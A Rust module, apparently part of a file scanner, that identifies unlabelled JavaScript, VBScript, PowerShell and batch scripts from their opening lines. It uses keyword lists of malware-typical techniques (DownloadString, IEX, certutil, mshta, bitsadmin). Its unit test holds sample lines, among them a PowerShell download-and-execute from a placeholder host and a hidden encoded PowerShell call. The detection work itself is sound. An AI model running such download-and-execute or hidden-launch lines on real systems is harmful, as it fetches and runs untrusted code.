//! Scripts that do not say what they are, by what their first lines look like.
//!
//! A rule against scripts must not meet a letter about one. So the first line must begin as code does, and there must be
//! what only that language has. What is found in neither is text.

use super::FileType;

/// Lines that are looked at.
const LINES: usize = 60;

/// The language of a script whose beginning this is, white space before it passed over.
pub(super) fn detect(head: &[u8]) -> Option<FileType> {
    // Most text begins with a word and goes on with another; this is decided by the first line alone.
    let first = head.split(|byte| *byte == b'\n').find(|line| !line.trim_ascii().is_empty())?.trim_ascii();
    let may_be = [
        (FileType::JS, begins(first, JS_FIRST)),
        (FileType::VBS, begins(first, VBS_FIRST)),
        (FileType::PS1, begins(first, PS1_FIRST)),
        (FileType::BATCH, begins(first, BATCH_FIRST)),
    ];
    if may_be.iter().all(|(_, may_be)| !may_be) {
        return None;
    }
    let lower = head.to_ascii_lowercase();
    let lines: Vec<&[u8]> = lower
        .split(|byte| *byte == b'\n')
        .map(<[u8]>::trim_ascii)
        .filter(|line| !line.is_empty())
        .take(LINES)
        .collect();
    let is = |language: FileType| match language {
        FileType::JS => javascript(&lower, &lines),
        FileType::VBS => vbscript(&lower, &lines),
        FileType::PS1 => powershell(&lower),
        _ => batch(&lines),
    };
    may_be.into_iter().find(|(language, may_be)| *may_be && is(*language)).map(|(language, _)| language)
}

fn begins(line: &[u8], with: &[&str]) -> bool {
    // Nearly always the first byte decides.
    let Some(first) = line.first().map(u8::to_ascii_lowercase) else { return false };
    with.iter()
        .map(|start| start.as_bytes())
        .filter(|start| start.first().is_some_and(|byte| byte.to_ascii_lowercase() == first))
        .any(|start| line.len() >= start.len() && line[..start.len()].eq_ignore_ascii_case(start))
}

fn count(text: &[u8], words: &[&str]) -> usize {
    words.iter().filter(|word| memchr::memmem::find(text, word.as_bytes()).is_some()).count()
}

/// How a first line of JavaScript begins.
const JS_FIRST: &[&str] = &[
    "var ",
    "let ",
    "const ",
    "function ",
    "function(",
    "(function",
    "!function",
    ";(function",
    "(()",
    "(async",
    "try{",
    "try {",
    "wscript.",
    "new activexobject",
    "eval(",
    "\"use strict\"",
    "'use strict'",
    "window.",
    "document.",
    "/*",
    "//",
    "this[",
    "if(",
    "if (",
    "for(",
    "for (",
    "while(",
    "while (",
    "import ",
    "export ",
    "async function",
    "with(",
    "String.",
];

fn javascript(lower: &[u8], lines: &[&[u8]]) -> bool {
    const HOST: &[&str] = &["activexobject(", "wscript.", "wsh.", "getobject(\"winmgmts", "new enumerator("];
    const TELLING: &[&str] = &[
        "function(",
        "function (",
        "=>",
        "document.",
        "window.",
        "require(",
        "typeof ",
        "===",
        "!==",
        "eval(",
        "unescape(",
        "string.fromcharcode",
        ".charcodeat(",
        ".prototype",
        "settimeout(",
        "parseint(",
        ".split(\"",
        ".split('",
        "new array(",
        ".join(\"",
        ".join('",
        ".push(",
        "json.parse",
        "atob(",
    ];
    let declares = lines.iter().any(|line| begins(line, &["var ", "let ", "const ", "function "]));
    let hosted = count(lower, HOST) > 0 && (declares || lower.contains(&b';') || lower.contains(&b'('));
    // C, Java and prose have one of these, but no two and a line end for most lines.
    let ends =
        |line: &&&[u8]| matches!(line.last(), Some(b';' | b'{' | b'}' | b',' | b'(' | b')' | b']' | b'/'));
    let code = lines.iter().filter(ends).count() * 2 >= lines.len();
    let others = count(
        lower,
        &["#include", "int main(", "public class ", "package main", "fn main(", "<?php", "def "],
    ) > 0;
    hosted || (code && declares && !others && count(lower, TELLING) >= 2)
}

/// How a first line of VBScript begins.
const VBS_FIRST: &[&str] = &[
    "dim ",
    "set ",
    "on error ",
    "sub ",
    "function ",
    "option explicit",
    "'",
    "rem ",
    "const ",
    "private ",
    "public ",
    "wscript.",
    "createobject(",
    "execute",
    "msgbox ",
    "class ",
    "if ",
    "do",
    "for ",
    "randomize",
    "call ",
];

fn vbscript(lower: &[u8], lines: &[&[u8]]) -> bool {
    const HOST: &[&str] =
        &["createobject(", "wscript.", "getobject(", "executeglobal", "execute(", "chrw(", "chr("];
    let telling = |line: &&&[u8]| {
        begins(
            line,
            &[
                "dim ",
                "on error resume next",
                "option explicit",
                "end sub",
                "end function",
                "end if",
                "next",
                "wend",
                "loop",
            ],
        ) || (begins(line, &["set "]) && line.contains(&b'='))
            || (begins(line, &["sub ", "function ", "private sub ", "public sub "]) && line.contains(&b'('))
    };
    let lines_of_it = lines.iter().filter(telling).count();
    let module = begins(lower, &["attribute vb_"]);
    let other = count(lower, &["{", "};"]) == 2;
    !module && !other && (count(lower, HOST) >= 1 && (lines_of_it >= 1 || lines.len() <= 3))
}

/// How a first line of PowerShell begins.
const PS1_FIRST: &[&str] = &[
    "$",
    "param(",
    "param (",
    "function ",
    "[system.",
    "[reflection.",
    "[net.",
    "[byte",
    "[void]",
    "[string",
    "[ref]",
    "<#",
    "#",
    "import-module",
    "iex",
    "invoke-",
    "start-",
    "set-",
    "get-",
    "add-type",
    "new-object",
    "&(",
    "& (",
    "&{",
    "& {",
    ".(",
    "try {",
    "try{",
    "if (",
    "if(",
    "write-",
    "powershell",
    "(new-object",
    "foreach",
    "while",
];

fn powershell(lower: &[u8]) -> bool {
    const TELLING: &[&str] = &[
        "new-object ",
        "invoke-expression",
        "invoke-webrequest",
        "invoke-restmethod",
        "iex(",
        "iex (",
        "| iex",
        "start-process ",
        "[system.convert]::",
        "[convert]::",
        "[system.text.encoding]::",
        "[text.encoding]::",
        "[system.reflection.assembly]::",
        "[reflection.assembly]::",
        "write-host",
        "write-output",
        "get-item",
        "get-childitem",
        "set-executionpolicy",
        "add-type ",
        "-encodedcommand",
        "-executionpolicy",
        "downloadstring(",
        "downloadfile(",
        "[byte[]]",
        "foreach-object",
        "where-object",
        "$env:",
        "out-file",
        "set-content",
        "get-content",
        "$psscriptroot",
        "start-sleep",
        "-bxor",
        "set-itemproperty",
        "[system.io.file]::",
        "[io.file]::",
        "import-module ",
        "remove-item ",
        "test-path ",
    ];
    let assigns = lower
        .split(|byte| *byte == b'\n')
        .map(<[u8]>::trim_ascii)
        .filter(|line| line.first() == Some(&b'$') && line.contains(&b'='))
        .count();
    let found = count(lower, TELLING);
    let other = count(lower, &["<?php", "use strict;", "my $"]) > 0;
    !other
        && (found >= 2
            || (found >= 1 && (assigns >= 1 || lower.first() != Some(&b'#') && lower.contains(&b'('))))
}

/// How a first line of a batch file begins.
const BATCH_FIRST: &[&str] = &[
    "@",
    "echo off",
    "rem ",
    "::",
    "setlocal",
    "cls",
    "set ",
    "start ",
    "cmd ",
    "cmd.exe",
    "powershell",
    "call ",
    "if ",
    "cd ",
    "del ",
    "copy ",
    "certutil",
    "curl ",
    "mshta",
    "reg add",
    "%comspec%",
    "title ",
    "mode ",
    "color ",
    "timeout ",
    "for %%",
    "net ",
    "taskkill",
    "bitsadmin",
    "rundll32",
    "wscript",
    "cscript",
    "pushd ",
    "chcp ",
];

fn batch(lines: &[&[u8]]) -> bool {
    const TELLING: &[&str] = &[
        "@echo",
        "echo off",
        "setlocal",
        "goto ",
        "if exist ",
        "if not exist ",
        "if \"%",
        "if %",
        "start \"\"",
        "start /",
        "call :",
        "cmd /c",
        "cmd.exe /c",
        "powershell -",
        "powershell.exe -",
        "powershell \"",
        "del /",
        "copy /",
        "certutil -",
        "reg add ",
        "reg delete ",
        "exit /b",
        "cd /d ",
        "cd %",
        "mshta http",
        "mshta.exe http",
        "mshta vbscript",
        "mshta javascript",
        "bitsadmin /",
        "for %%",
        "for /f ",
        "%comspec%",
        "taskkill /",
        "rundll32 ",
        "attrib +",
        "timeout /t",
        "schtasks /",
        "chcp 65001",
        "wscript ",
        "cscript ",
        "curl -",
        "curl http",
        "@powershell",
        "@cmd",
        "@start",
        "@set ",
        "@curl",
        "@certutil",
        "@for ",
    ];
    let sets = |line: &[u8]| {
        line.strip_prefix(b"set ").is_some_and(|rest| {
            let name = rest.trim_ascii_start();
            let name = name.strip_prefix(b"/a ").or_else(|| name.strip_prefix(b"\"")).unwrap_or(name);
            let length =
                name.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
            length > 0 && name.get(length) == Some(&b'=')
        })
    };
    let telling = |line: &&&[u8]| begins(line, TELLING) || sets(line);
    let found = lines.iter().filter(telling).count();
    let uses = lines.iter().any(|line| {
        line.windows(3).any(|window| window[0] == b'%' && window[1].is_ascii_alphabetic())
            && line.iter().filter(|byte| **byte == b'%').count() >= 2
    });
    let alone = lines.len() <= 3 && lines.first().is_some_and(|line| begins(line, TELLING));
    alone || found >= 3 || (found >= 2 && (uses || found * 2 >= lines.len()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_and_letters_about_them() {
        for (text, wanted) in [
            ("var a = new ActiveXObject(\"WScript.Shell\"); a.Run('cmd');", Some(FileType::JS)),
            (
                "// loader\nvar x = 'a'.split('');\nfunction f(a) {\n  return a.charCodeAt(0);\n}\nf(x);",
                Some(FileType::JS),
            ),
            ("(function(){var a=document.createElement('a');window.x=a;})();", None),
            ("(function(){\nvar a=document.createElement('a');\nwindow.x=a;\n})();", Some(FileType::JS)),
            ("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n", Some(FileType::VBS)),
            ("' comment\nOn Error Resume Next\nExecute(Chr(77))\n", Some(FileType::VBS)),
            ("CreateObject(\"WScript.Shell\").Run \"calc\"", Some(FileType::VBS)),
            (
                "$a = New-Object Net.WebClient\nIEX($a.DownloadString('http://a.example'))",
                Some(FileType::PS1),
            ),
            ("powershell -nop -w hidden -enc AAAA", Some(FileType::BATCH)),
            ("rem x\nset a=b\nstart \"\" %a%\n", Some(FileType::BATCH)),
            ("setlocal\nif exist x goto y\nexit /b", Some(FileType::BATCH)),
            ("Dear John,\nset a meeting for Monday. Call me.\nStart the day well.", None),
            ("If you use CreateObject in your script, tell me.\nBye", None),
            ("/* C */\n#include <stdio.h>\nint main(void)\n{\n  return 0;\n}\n", None),
            ("#include <stdio.h>\n", None),
            ("const int x = 4;\nconst char *y = \"z\";\n", None),
            ("Set phasers to stun.\nEnd if\n", None),
            ("$ ls\n$ cat file\n", None),
            ("# A heading\n\nSome text (with brackets) on write-host.\n", None),
            ("@@ -1,2 +1,2 @@\n-var a;\n+var b;\n", None),
            ("import os\ndef main():\n    pass\n", None),
            ("Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nEnd Sub", None),
        ] {
            assert_eq!(detect(text.as_bytes()), wanted, "{text}");
        }
    }
}
